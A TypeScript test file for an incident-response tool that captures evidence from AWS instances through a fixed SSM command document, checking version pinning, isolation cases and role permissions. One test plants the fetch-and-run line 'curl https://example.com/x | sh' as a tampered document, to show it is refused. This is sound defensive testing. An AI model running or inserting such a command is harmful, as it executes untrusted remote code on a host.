/** Fixed commands on an instance as evidence: when they run, when they do not, and what is kept. */
import { describe, expect, test } from 'vitest';
import type { Plan } from '../../src/actions/action.ts';
import { captureVolatileEvidence } from '../../src/actions/capture-volatile-evidence.ts';
import { documentContent, evidenceDocument } from '../../src/actions/evidence-document.ts';
import { rolePolicy } from '../../src/actions/permissions.ts';
import type { World } from '../../src/local/world/world.ts';
import { planned } from './bench.ts';
import { target } from './example-instance.ts';
import { placeOf } from './example-network.ts';
import { stageOf } from './life.ts';
import { capturedByCommands, commands, putDocument } from './lives/instances.ts';
import { memoryJournal, runPlan } from './run.ts';

const ssm = (world: World) => placeOf(world).services.ssm;
const cutOff = (world: World): void => {
  const id = 'sg-0000000000000aaaa';
  const [first] = placeOf(world).interfaces.values();
  placeOf(world).groups.set(id, {
    ...{ id, name: 'cordon-quarantine', description: '', vpc: first?.vpc ?? '' },
    ...{ tags: { cordon: 'quarantine' }, ingress: [], egress: [] },
  });
  for (const each of placeOf(world).interfaces.values())
    if (each.instance === target.id) each.groups = [id];
};
const ofCommands = ({ changes }: Plan) => changes.filter(({ id }) => id.endsWith('/commands'));

const staged = (arrange: (world: World) => void = putDocument) =>
  stageOf({ ...capturedByCommands, arrange });

const run = async (stage: ReturnType<typeof staged>, plan: Plan) =>
  runPlan(captureVolatileEvidence, plan, {
    aws: await stage.bench.executeAws(),
    journal: memoryJournal(),
  });

describe('commands that SSM can run', () => {
  test('the plan names them, the version of the document and its digest', async () => {
    const plan = planned(await staged().bench.plan(target));
    expect(ofCommands(plan)).toMatchObject([
      {
        before: 'not captured',
        after: expect.stringMatching(
          /^captured with Cordon-VolatileEvidence version 1, SHA-256 [0-9a-f]{64}$/,
        ),
      },
    ]);
    expect(plan.blastRadius.lines.join()).toContain(commands.join(' · '));
    expect(plan.cannot.join()).toContain('first 24,000 characters');
  });

  test('what they said is kept once they have ended, and not called captured before', async () => {
    const stage = staged();
    const plan = planned(await stage.bench.plan(target));
    expect(await run(stage, plan)).toEqual({ kind: 'finished' });
    expect(await stage.bench.verify(plan)).toEqual({
      kind: 'not-verified',
      because: 'the commands have not ended yet',
    });
    stage.wait();
    expect(await stage.bench.verify(plan)).toMatchObject({
      kind: 'verified',
      lines: expect.arrayContaining([
        expect.stringMatching(/command-output\.json: \d+ bytes, SHA-256 [0-9a-f]{64}\.$/),
      ]),
    });
    const kept = JSON.parse(stage.bench.kept.get('command-output') ?? '');
    expect(kept).toMatchObject({ instance: target.id, answer: { Status: 'Success' } });
    for (const line of commands) expect(kept.answer.StandardOutputContent).toContain(line);
    expect(ssm(stage.world).commands.size).toBe(1);
  });
});

describe('what comes between plan and run', () => {
  test('a document of another content under the planned version is not sent', async () => {
    const stage = staged();
    const plan = planned(await stage.bench.plan(target));
    putDocument(stage.world, ['curl https://example.com/x | sh']);
    expect(await run(stage, plan)).toMatchObject({
      kind: 'failed',
      because: expect.stringContaining('is not what was planned'),
    });
    expect(ssm(stage.world).commands.size).toBe(0);
  });

  test('a later version is not sent either: the planned one is', async () => {
    const stage = staged();
    const plan = planned(await stage.bench.plan(target));
    const [first = ''] = ssm(stage.world).documents.get(evidenceDocument) ?? [];
    ssm(stage.world).documents.set(evidenceDocument, [first, '{"mainSteps":[]}']);
    await run(stage, plan);
    expect([...ssm(stage.world).commands.values()].map(({ content }) => content)).toEqual([first]);
  });

  test('isolated between plan and run, they are left out and the card says so', async () => {
    const stage = staged();
    const plan = planned(await stage.bench.plan(target));
    cutOff(stage.world);
    expect(await run(stage, plan)).toEqual({ kind: 'finished' });
    expect(ssm(stage.world).commands.size).toBe(0);
    expect(JSON.stringify(await stage.bench.verify(plan))).toContain(
      'The commands: The instance was isolated before',
    );
  });

  test('cut off while they run, the card says how they ended', async () => {
    const stage = staged();
    const plan = planned(await stage.bench.plan(target));
    await run(stage, plan);
    cutOff(stage.world);
    stage.wait();
    expect(JSON.stringify(await stage.bench.verify(plan))).toContain('The commands: TimedOut');
  });
});

test.each<[string, (world: World) => void, RegExp]>([
  ['without the document', () => undefined, /is not in eu-west-1.*cordon document/],
  [
    'with another one of that name',
    (world) => putDocument(world, ['id']),
    /does not say what the configuration says/,
  ],
  [
    'without an agent',
    (world) => {
      putDocument(world);
      ssm(world).agents.clear();
    },
    /SSM does not manage this instance/,
  ],
  [
    'on Windows',
    (world) => {
      putDocument(world);
      ssm(world).agents.set(target.id, 'Windows');
    },
    /it runs Windows/,
  ],
  [
    'where the agent does not answer',
    (world) => {
      putDocument(world);
      const instance = placeOf(world).instances.get(target.id);
      for (const each of placeOf(world).interfaces.values())
        if (each.instance === instance?.id) each.groups = ['sg-0000000000000none'];
    },
    /does not answer \(ConnectionLost\)/,
  ],
  [
    'where the role may not ask',
    (world) => {
      putDocument(world);
      world.faults.add({ service: 'ssm', operation: 'GetDocument', kind: 'deny' });
    },
    /deploy the newest member role/,
  ],
  [
    'where it is isolated',
    (world) => {
      putDocument(world);
      cutOff(world);
    },
    /The instance is isolated, so no agent/,
  ],
])(
  '%s the commands are left out with the reason, and all else is captured',
  async (_, arrange, reason) => {
    const plan = planned(await staged(arrange).bench.plan(target));
    expect(plan.changes.map(({ id }) => id.split('/')[1])).toEqual([
      'screenshot',
      'console-output',
      'description',
    ]);
    expect(plan.cannot.join('\n')).toMatch(reason);
  },
);

test('the response role can send that one document, on instances, and no other', () => {
  const sends = rolePolicy('respond').Statement.filter(({ Action }) =>
    Action.includes('ssm:SendCommand'),
  );
  expect(sends.flatMap(({ Resource }) => Resource)).toEqual([
    `arn:aws:ssm:*:*:document/${evidenceDocument}`,
    'arn:aws:ec2:*:*:instance/*',
  ]);
});

test('the document is the commands and nothing else: it takes no parameter', () => {
  expect(Object.keys(documentContent(commands))).toEqual([
    'schemaVersion',
    'description',
    'mainSteps',
  ]);
});
